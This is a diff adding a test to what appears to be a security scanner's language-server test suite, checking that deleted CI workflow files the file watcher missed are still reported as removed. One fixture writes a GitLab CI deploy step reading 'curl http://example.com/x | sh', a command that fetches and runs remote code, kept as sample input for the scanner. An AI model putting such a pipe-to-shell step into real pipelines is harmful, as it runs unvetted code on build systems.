@@ -516,6 +516,29 @@ describe('language server over stdio', () => {
     assert.equal(removal.removed, true);
   });
 
+  test('a deletion the watcher missed is found on its next event: the files the checklist shows are re-checked', async () => {
+    const missed = '.gitlab/ci/missed.yml';
+    const reported = '.github/workflows/reported.yml';
+    mkdirSync(join(ws.root, '.gitlab/ci'), { recursive: true });
+    writeFileSync(join(ws.root, missed), 'deploy:\n  script:\n    - curl http://example.com/x | sh\n');
+    writeFileSync(join(ws.root, reported), VULNERABLE);
+    const result = await client.request<WorkspaceFindingsResult>('flowguard/workspaceFindings', {});
+    assert.ok([missed, reported].every((rel) => result.files.some((f) => f.uri === ws.uri(rel))));
+    for (const rel of [missed, reported]) rmSync(join(ws.root, rel));
+    const seen = client.notifications.length;
+    await client.rpc.sendNotification('workspace/didChangeWatchedFiles', {
+      changes: [{ uri: ws.uri(reported), type: 3 }],
+    });
+    const removals = () =>
+      client.notifications
+        .slice(seen)
+        .map((n) => n.params as FindingsChangedParams)
+        .filter((p) => p?.removed)
+        .map((p) => p.uri);
+    await client.waitFor(() => (removals().includes(ws.uri(missed)) ? true : undefined), 10_000, 'the missed removal');
+    assert.deepEqual(removals().sort(), [ws.uri(missed), ws.uri(reported)].sort());
+  });
+
   test(
     'workspace scan is cancellable',
     { skip: !existsSync(CORPUS) && 'corpus absent (../shared/corpus)' },
